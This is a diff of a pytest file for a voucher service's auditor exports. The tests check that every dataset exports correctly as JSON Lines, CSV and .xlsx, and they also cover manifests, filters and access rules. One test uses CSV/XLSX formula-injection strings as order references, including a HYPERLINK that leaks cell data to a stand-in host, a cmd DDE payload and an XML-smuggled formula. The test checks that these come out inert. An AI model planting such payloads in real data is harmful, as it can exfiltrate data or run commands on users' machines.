@@ -1,6 +1,8 @@
-"""Exports (auditor toolkit): every dataset in both formats, read back and compared with the
-database; the manifest describes exactly the bytes received; filters select what they say and
-inapplicable or malformed ones are refused; only operators and auditors may export."""
+"""Exports (auditor toolkit): every dataset in every format (JSON Lines, CSV, .xlsx), read back
+and compared with the database; the manifest describes exactly the bytes received; filters
+select what they say and inapplicable or malformed ones are refused; only operators and
+auditors may export. The spreadsheet formats hold flat cells only (line items and audit changes
+are rows of their own, a computation is columns) and Beijing times; see test_spreadsheets.py."""
 
 from __future__ import annotations
 
@@ -13,25 +15,43 @@ from sqlalchemy import func, select
 
 from services.voucher.audit import service as audit
 from services.voucher.tables import AuditEvent, ExportManifest, Redemption, Settlement
+from tests.exports import xlsx
 from tests.exports.helpers import (
+    FORMATS,
+    MEDIA,
     A,
     assert_same_rows,
     database_rows,
     export,
+    flat_redemption,
+    header_of,
     ledger_rows_statement,
     manifest_of,
     rows_of,
+    time_columns,
+    without_changes,
 )
 from tests.exports.history import History, build_history
 from tests.support import assert_problem, auth
 
-FORMATS = ("csv", "jsonl")
 E = AuditEvent.__table__
 
 
 @pytest.fixture
 async def history(app, client: httpx.AsyncClient, clock) -> History:
     return await build_history(app, client, clock)
+
+
+def expected_rows(dataset: str, fmt: str, rows: list[dict[str, Any]]) -> list[dict[str, Any]]:
+    """The database rows as `fmt` has them: JSON Lines as they are; a spreadsheet with a
+    redemption's computation in columns and an audit event's changes left to their own dataset."""
+    if fmt == "jsonl":
+        return rows
+    if dataset == "redemptions":
+        return [flat_redemption(r) for r in rows]
+    if dataset == "audit-events":
+        return [without_changes(r) for r in rows]
+    return rows
 
 
 def expected_statement(dataset: str) -> Any:
@@ -51,21 +71,21 @@ async def principal_of(client: httpx.AsyncClient, key: str) -> str:
 
 
 @pytest.mark.parametrize("dataset", ["ledger-entries", "redemptions", "settlements", "audit-events"])
-async def test_every_dataset_in_both_formats_matches_the_database(
+async def test_every_dataset_in_every_format_matches_the_database(
     app, client: httpx.AsyncClient, history: History, dataset: str
 ) -> None:
     auditor = history.world.auditor
     for fmt in FORMATS:
         response = await export(client, auditor, dataset, fmt)
         assert response.status_code == 200, response.text
-        media = "text/csv" if fmt == "csv" else "application/x-ndjson"
-        assert response.headers["content-type"].startswith(media)
+        assert response.headers["content-type"].startswith(MEDIA[fmt])
         export_id = response.headers["export-id"]
         assert f"{dataset}-{export_id}.{fmt}" in response.headers["content-disposition"]
         rows = rows_of(fmt, response.content)
-        expected = await database_rows(app, expected_statement(dataset))
+        stmt = expected_statement(dataset)
+        expected = await database_rows(app, stmt)
         assert expected, "the scripted history has rows in every dataset"
-        assert_same_rows(rows, expected, fmt)
+        assert_same_rows(rows, expected_rows(dataset, fmt, expected), fmt, time_columns(stmt))
 
         manifest = await manifest_of(client, auditor, response)
         assert manifest["id"] == export_id
@@ -112,42 +132,45 @@ async def test_jsonl_is_the_default_and_the_csv_starts_with_a_bom_and_a_header(
     assert first_line.startswith(b"\xef\xbb\xbfid,provider_id,programme_id,unit,")
 
 
-async def test_audit_event_changes_are_json_text_in_csv(client: httpx.AsyncClient, history: History) -> None:
-    rows = rows_of("csv", (await export(client, history.world.auditor, "audit-events", "csv")).content)
-    posted = [r for r in rows if r["action"] == "ledger.posted"]
-    assert posted and all(r["after"].startswith("{") for r in posted)
-    assert [int(r["seq"]) for r in rows] == list(range(1, len(rows) + 1))
-
-
-async def test_a_reference_that_looks_like_a_formula_is_inert_in_csv_and_exact_in_jsonl(
+async def test_a_reference_that_looks_like_a_formula_is_inert_in_csv_and_xlsx_and_exact_in_jsonl(
     client: httpx.AsyncClient, history: History
 ) -> None:
-    """Issue 19, finding 4: a provider's order reference reaches the export's cells."""
+    """Issue 19, finding 4: a provider's order reference reaches the export's cells. In CSV it
+    gets an apostrophe; in .xlsx it is a text cell as it is, never a formula — including the
+    one shape (`<r>…</r>`) XlsxWriter would copy into the sheet's XML unescaped."""
     world = history.world
     voucher = await world.issue(10_000_000)
-    attacks = ['=HYPERLINK("http://x/?leak="&A1,"Click")', '+1+cmd|"/Ccalc"!A0', "@SUM(A1)", "-2+3"]
+    injection = "<r><t>a</t></r></is></c><c><f>HYPERLINK(\"http://x/\",\"y\")</f></c><c><is><r><t>b</t></r>"
+    attacks = ['=HYPERLINK("http://x/?leak="&A1,"Click")', '+1+cmd|"/Ccalc"!A0', "@SUM(A1)", "-2+3", injection]
     for reference in attacks:
         redeemed = await world.hold(voucher, 100_000, order=reference, path="/v1/redemptions")
         assert redeemed.status_code == 201, redeemed.text
     found = {}
     for fmt in FORMATS:
-        rows = rows_of(fmt, (await export(client, world.auditor, "redemptions", fmt, voucher_id=voucher["id"])).content)
-        found[fmt] = sorted(r["order_reference"] for r in rows)
-    assert found["jsonl"] == sorted(attacks)
-    assert found["csv"] == sorted("'" + a for a in attacks)
+        for dataset in ("redemptions", "redemption-line-items"):
+            response = await export(client, world.auditor, dataset, fmt, voucher_id=voucher["id"])
+            found[fmt, dataset] = sorted(r["order_reference"] for r in rows_of(fmt, response.content))
+            if fmt == "xlsx":
+                [sheet] = xlsx.read(response.content)
+                assert not any(c.is_formula for row in sheet.rows for c in row)
+                assert all("<f>" not in part for part in xlsx.sheet_xml(response.content))
+        assert found[fmt, "redemptions"] == found[fmt, "redemption-line-items"]
+    assert found["jsonl", "redemptions"] == found["xlsx", "redemptions"] == sorted(attacks)
+    assert found["csv", "redemptions"] == sorted("'" + a if a[0] in "=+-@" else a for a in attacks)
 
 
 # -- filters ---------------------------------------------------------------------------------------
 
 
 async def _filtered(app, client, key, dataset: str, stmt_filter, **params: Any) -> list[dict[str, Any]]:
-    """Export with `params` in both formats; both equal the database rows `stmt_filter` keeps."""
-    expected = [r for r in await database_rows(app, expected_statement(dataset)) if stmt_filter(r)]
+    """Export with `params` in every format; each equals the database rows `stmt_filter` keeps."""
+    stmt = expected_statement(dataset)
+    expected = [r for r in await database_rows(app, stmt) if stmt_filter(r)]
     for fmt in FORMATS:
         response = await export(client, key, dataset, fmt, **params)
         assert response.status_code == 200, response.text
         rows = rows_of(fmt, response.content)
-        assert_same_rows(rows, expected, fmt)
+        assert_same_rows(rows, expected_rows(dataset, fmt, expected), fmt, time_columns(stmt))
         manifest = await manifest_of(client, key, response)
         assert manifest["row_count"] == len(rows)
         assert manifest["sha256"] == hashlib.sha256(response.content).hexdigest()
@@ -216,6 +239,8 @@ async def test_filters_of_the_other_datasets(app, client: httpx.AsyncClient, his
     ("settlements", {"voucher_id": "0190d5d2-1c4e-7a10-8a55-3f2b9c1d0e31"}, "voucher_id"),
     ("settlements", {"enterprise_id": "0190d5d2-1c4e-7a10-8a55-3f2b9c1d0e31"}, "enterprise_id"),
     ("audit-events", {"account_id": "0190d5d2-1c4e-7a10-8a55-3f2b9c1d0e31"}, "account_id"),
+    ("redemption-line-items", {"account_id": "0190d5d2-1c4e-7a10-8a55-3f2b9c1d0e31"}, "account_id"),
+    ("audit-event-changes", {"account_id": "0190d5d2-1c4e-7a10-8a55-3f2b9c1d0e31"}, "account_id"),
     ("ledger-entries", {"since": "2026-03-01T00:00:00Z", "until": "2026-03-01T00:00:00Z"}, "until"),
     ("ledger-entries", {"since": "2026-03-02T00:00:00Z", "until": "2026-03-01T00:00:00Z"}, "until"),
 ])
@@ -257,8 +282,10 @@ async def test_only_operators_and_auditors_export(app, client: httpx.AsyncClient
     assert allowed.status_code == 200
     manifest_path = f"/v1/exports/manifests/{allowed.headers['export-id']}"
     for key in (world.enterprise_key, world.provider_key):
-        for dataset in ("ledger-entries", "redemptions", "settlements", "audit-events"):
-            assert_problem(await export(client, key, dataset), 403, "insufficient_scope")
+        for dataset in ("ledger-entries", "redemptions", "redemption-line-items", "settlements", "audit-events",
+                        "audit-event-changes"):
+            for fmt in FORMATS:
+                assert_problem(await export(client, key, dataset, fmt), 403, "insufficient_scope")
         assert_problem(await client.get(manifest_path, headers=auth(key)), 403, "insufficient_scope")
     assert_problem(await client.get("/v1/exports/redemptions"), 401, "unauthenticated")
     assert_problem(await client.get(manifest_path), 401, "unauthenticated")
@@ -273,11 +300,13 @@ async def test_an_unknown_manifest_is_404(client: httpx.AsyncClient, auditor_key
 
 
 async def test_an_empty_export_has_a_manifest_too(client: httpx.AsyncClient, auditor_key: str) -> None:
-    for fmt, header_only in (("jsonl", b""), ("csv", None)):
+    for fmt in FORMATS:
         response = await export(client, auditor_key, "settlements", fmt)
         assert response.status_code == 200
-        if header_only is not None:
-            assert response.content == header_only
+        if fmt == "jsonl":
+            assert response.content == b""
+        else:  # a header and no row
+            assert header_of(fmt, response.content)[:2] == ["id", "provider_id"]
         assert rows_of(fmt, response.content) == []
         manifest = await manifest_of(client, auditor_key, response)
         assert manifest["row_count"] == 0
